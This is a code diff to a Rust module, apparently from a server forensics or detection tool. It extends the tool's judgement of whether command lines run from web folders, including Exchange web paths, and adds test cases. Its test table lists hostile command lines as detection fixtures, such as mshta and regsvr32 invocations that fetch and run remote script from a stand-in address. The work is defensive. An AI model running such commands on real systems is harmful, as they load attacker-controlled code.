@@ -1,10 +1,11 @@
 //! What a command line or a script that runs by itself does to the web server: writes pages, runs from where no program belongs,
 //! hides or fetches what it runs. Names prove nothing (`\Microsoft\Windows\...` is anybody's to write), so commands alone are judged.
 
-use super::Plan;
+use super::discover::EXCHANGE_WEB;
+use super::{Area, Plan};
 use crate::evidence::{Evidence, Resolver, classify};
 use crate::model::place::kind;
-use crate::model::server_path::{extension, fold};
+use crate::model::server_path::{extension, fold, same_name};
 use crate::model::{Problem, ProblemKind, Reason, ReasonKind, Role, ServerPath};
 use std::io::Read;
 
@@ -72,7 +73,13 @@ impl<'g, 'e> Ground<'g, 'e> {
         drives: &'g [char],
         plan: &Plan,
     ) -> Self {
-        let served = plan.areas.iter().filter(|area| area.every_file && area.role != Role::Unknown);
+        // Of an installation of Exchange the programs are examined whole as well, and its services lie there.
+        let is_web = |area: &Area| match area.role {
+            Role::Unknown => false,
+            Role::Exchange => EXCHANGE_WEB.iter().any(|name| same_name(area.path.name(), name)),
+            _ => true,
+        };
+        let served = plan.areas.iter().filter(|area| area.every_file && is_web(area));
         let mut web: Vec<String> = served.map(|area| format!("{}\\", area.path.folded())).collect();
         web.sort();
         web.dedup();
@@ -692,6 +699,10 @@ mod tests {
         let mut plan = Plan::default();
         let folder = ServerPath::from_windows(r"C:\sites\a").expect("absolute");
         super::super::add(&mut plan, folder.clone(), Role::WebRoot, &folder, true);
+        for folder in [r"C:\Ex\bin", r"C:\Ex\FrontEnd"] {
+            let folder = ServerPath::from_windows(folder).expect("absolute");
+            super::super::add(&mut plan, folder.clone(), Role::Exchange, &folder, true);
+        }
         let ground = Ground::new(&evidence, &resolver, &ServerPath::drive('C'), &['C'], &plan);
         let line = ground.plain(line);
         let mut signs: Vec<&str> = ground.signs(&line, is_script).iter().map(|sign| sign.id).collect();
@@ -726,6 +737,8 @@ mod tests {
             ("mshta http://203.0.113.9/a.hta", &["script_of_elsewhere"]),
             ("regsvr32 /s /n /u /i:http://203.0.113.9/a.sct scrobj.dll", &["script_of_elsewhere"]),
             (r"C:\Windows\System32\svchost.exe -k netsvcs", &[]),
+            (r"C:\Ex\bin\MSExchangeMailboxReplication.exe", &[]),
+            (r"C:\Ex\FrontEnd\HttpProxy\owa\q.exe", &["in_web_folder"]),
             (r"C:/sites/./a/b/../q.exe", &["in_web_folder"]),
             (r"C:\\sites\\a. \\q.exe::$DATA -k", &["in_web_folder"]),
             (r"\sites\a\q.exe", &["in_web_folder"]),
